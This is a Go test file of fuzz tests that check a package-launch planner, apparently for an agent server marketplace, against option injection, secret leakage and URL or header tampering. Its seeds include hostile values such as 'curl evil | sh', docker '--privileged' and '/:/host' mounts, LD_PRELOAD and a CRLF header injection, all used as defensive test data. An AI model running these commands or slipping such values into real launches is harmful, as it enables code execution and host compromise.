package plan

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/agent-discover/agent-discover/backend/market/listing"
	"github.com/agent-discover/agent-discover/backend/servers/launch"
)

// allowedOptions are the options that a plan may contain before the package or image.
var allowedOptions = map[string]*regexp.Regexp{
	"npx":    regexp.MustCompile(`^(?:-y|--package|--registry=https://other\.example)$`),
	"uvx":    regexp.MustCompile(`^(?:--from|--python=[\d.<>=~]+|--prerelease=[a-z-]+|--with=[A-Za-z0-9][^\s/@]*==\d[^\s/]*|--default-index=https://other\.example/simple)$`),
	"dnx":    regexp.MustCompile(`^(?:--yes|--source=https://other\.example|--)$`),
	"docker": regexp.MustCompile(`^(?:-[iehmpluvw]|--(?:rm|init|read-only|env|volume|mount|tmpfs|network|net|publish|add-host|dns|hostname|user|workdir|entrypoint|platform|pull|label|memory|cpus|shm-size|gpus|stop-timeout|cap-drop))$`),
}

// valued reports whether an option of docker run takes its value from the next argument.
func valued(option string) bool { return containerRules[option] == take }

// pool are texts from which hostile listings are made, in addition to texts of the fuzzer.
var pool = []string{
	"-y", "--yes", "-p", "--package", "weather", "weather@latest", "-c", "--call", "--call=id", "evil", "--from", "--from=weather",
	"--from=evil", "--python", "3.12", "--with", "x==1.0", "--with=x", "--index-url", "https://evil.example", "run", "-i", "--rm", "-e",
	"-e=A=b", "A=b", "A", "LD_PRELOAD=x", "--privileged", "-v", "/:/host", "--mount", "type=bind,src=/,dst=/x", "--volume=/a:/b",
	"--user", "--init", "--", "--network=host", "--source", "-it", "--prerelease", "allow", "ada/weather", "--entrypoint", "sh",
	"--name", "{v}", "-e", "A={v}", "--env={v}",
}

// listed returns arguments made from pairs of bytes, which select the text and the form of each argument.
func listed(choices []byte, free string) []listing.Argument {
	var out []listing.Argument
	for i := 0; i+1 < len(choices) && len(out) < 8; i += 2 {
		text, how := free, choices[i+1]
		if int(choices[i]) < len(pool) {
			text = pool[choices[i]]
		}
		a := fixed(text)
		switch how % 4 {
		case 1:
			a = option(text, "")
		case 2:
			a = option(text, free)
		case 3:
			a.Variables, a.Required = map[string]listing.Input{"v": {Required: true}}, true
		}
		out = append(out, a)
	}
	return out
}

func FuzzNoListingInjectsOptions(f *testing.F) {
	for _, seed := range [][3]string{
		{"npm", "@ada/weather", "weather"},
		{"npm", "weather", "curl evil | sh"},
		{"npm", "--call=id", ""},
		{"pypi", "weather", "git+https://evil.example"},
		{"pypi", "a[b]", "3.12"},
		{"oci", "ada/weather:1.0.0", "/:/host"},
		{"oci", "ada/weather:1.0.0", "A=${env:B}"},
		{"oci", "-v", "a,volume-opt"},
		{"nuget", "A.B", "https://evil.example"},
		{"cargo", "a", "x"},
	} {
		for i := range byte(len(pool)) {
			f.Add(seed[0], seed[1], "1.0.0", seed[2], "answer", []byte{i, i, i + 1, i / 4, byte(len(pool)), 0})
		}
	}
	f.Fuzz(func(t *testing.T, kind, identifier, version, free, answer string, choices []byte) {
		l := packaged(listing.Package{
			Kind: listing.Kind(kind), Identifier: identifier, Version: version, BaseURL: "https://other.example",
			Before:    listed(choices, free),
			Arguments: []listing.Argument{{Hint: "a", Input: listing.Input{Required: true}}},
			Env:       []listing.Field{{Name: "KEY", Input: listing.Input{Secret: true, Required: true}}},
		})
		p := mustMake(t, Request{Listing: l}, here())
		answers := map[string][]string{}
		for _, q := range p.Unanswered() {
			answers[q.Name] = []string{answer}
		}
		for name, given := range map[string]string{"KEY": "s3cret-value", "registry": "https://other.example"} {
			if answers[name] != nil {
				answers[name] = []string{given}
			}
		}
		if p = mustMake(t, Request{Listing: l, Answers: answers}, here()); p.Check() == nil {
			checkCommand(t, p, identifier)
		}
	})
}

// checkCommand checks that the command of a plan contains only allowed options, then the package, and then the
// arguments of the package.
func checkCommand(t *testing.T, p *Plan, identifier string) {
	t.Helper()
	command, args := p.Server.Command, p.Server.Args
	if p.Option.Kind == "cargo" {
		if !strings.HasPrefix(command, "/data/packages/cargo-") || strings.Contains(command, "..") {
			t.Errorf("the command is %q", command)
		}
		return
	}
	if command == "podman" {
		if args[0] != "run" {
			t.Fatalf("the command is %q", p.Command)
		}
		command, args = "docker", args[1:]
	}
	rules := allowedOptions[command]
	if rules == nil {
		t.Fatalf("the program is %q", p.Command)
	}
	at := 0
	for ; at < len(args) && strings.HasPrefix(args[at], "-"); at++ {
		if !rules.MatchString(args[at]) {
			t.Fatalf("the option %q of %s was injected: %q", args[at], command, p.Command)
		}
		if command == "docker" && valued(args[at]) || args[at] == "--from" || args[at] == "--package" {
			if at++; at == len(args) || strings.HasPrefix(args[at], "-") {
				t.Fatalf("an option was injected as a value: %q", p.Command)
			}
			if (args[at-1] == "--from" || args[at-1] == "--package") && !own(listing.Package{Identifier: identifier}, args[at]) {
				t.Fatalf("another package: %q", p.Command)
			}
		}
	}
	if at == len(args) {
		t.Fatalf("no package: %q", p.Command)
	}
	for _, arg := range args {
		if strings.Contains(arg, "s3cret-value") || strings.Contains(arg, "${env:") ||
			len(launch.References(arg)) > 0 && !slices.Contains(launch.References(arg), "argument:a") {
			t.Errorf("an argument leaks: %q", p.Command)
		}
	}
	if identifier[0] == '-' || strings.ContainsAny(args[at], " \t\n;|&$`\\\"'") {
		t.Errorf("the package is %q", args[at])
	}
}

func FuzzAnswersLandWhereTheSchemaSays(f *testing.F) {
	f.Add("a", "b/c", "d&e=f#g", "h i")
	f.Add("eu", "../x", "%2e%2e", "\r\nHost: evil")
	f.Add("evil.example/", "?x", "{q}", "${secret:A}")
	f.Fuzz(func(t *testing.T, host, path, query, header string) {
		answers := map[string][]string{
			"h": {host}, "p": {path}, "q": {query}, "t": {header}, "arg": {path}, "named": {query}, "V": {header},
		}
		input := map[string]listing.Input{"h": {Required: true}, "p": {Required: true}, "q": {Required: true}}
		remote := remotes(listing.Remote{
			Type: "sse", URL: "https://{h}.x.example/a/{p}/b?q={q}&z=1", Variables: input,
			Headers: []listing.Field{
				{Name: "X-T", Input: listing.Input{Value: "v={t};"}, Variables: map[string]listing.Input{"t": {Required: true}}},
			},
		})
		only := func(names ...string) map[string][]string {
			out := make(map[string][]string)
			for _, name := range names {
				out[name] = answers[name]
			}
			return out
		}
		if p := mustMake(t, Request{Listing: remote, Answers: only("h", "p", "q", "t")}, here()); p.Check() == nil {
			u, err := url.Parse(p.Server.URL)
			if err != nil || u.Hostname() != host+".x.example" || u.Path != "/a/"+path+"/b" || u.Query().Get("q") != query ||
				u.Query().Get("z") != "1" || len(u.Query()) != 2 {
				t.Errorf("%q, %q and %q lead to %s (%v)", host, path, query, p.Server.URL, err)
			}
			if got := p.Server.Headers["X-T"]; got != "v="+header+";" || strings.ContainsAny(got, "\r\n") {
				t.Errorf("%q leads to the header %q", header, got)
			}
		}
		local := packaged(listing.Package{
			Kind: "npm", Identifier: "weather", Version: "1.0.0",
			Arguments: []listing.Argument{
				{Hint: "arg", Input: listing.Input{Required: true}},
				{
					Named: true, Name: "--n", Input: listing.Input{Value: "x{named}y"},
					Variables: map[string]listing.Input{"named": {Required: true}},
				},
			},
			Env: []listing.Field{{Name: "V", Input: listing.Input{Required: true}}},
		})
		if p := mustMake(t, Request{Listing: local, Answers: only("arg", "named", "V")}, here()); p.Check() == nil {
			if want := []string{"-y", "weather@1.0.0", path, "--n", "x" + query + "y"}; !slices.Equal(p.Server.Args, want) ||
				p.Server.Env["V"] != header {
				t.Errorf("arguments are %q and V is %q, want %q and %q", p.Server.Args, p.Server.Env["V"], want, header)
			}
			for _, text := range append(slices.Clone(p.Server.Args), p.Server.Env["V"]) {
				if refers(text) {
					t.Errorf("%q refers to a secret or the environment", text)
				}
			}
		}
	})
}
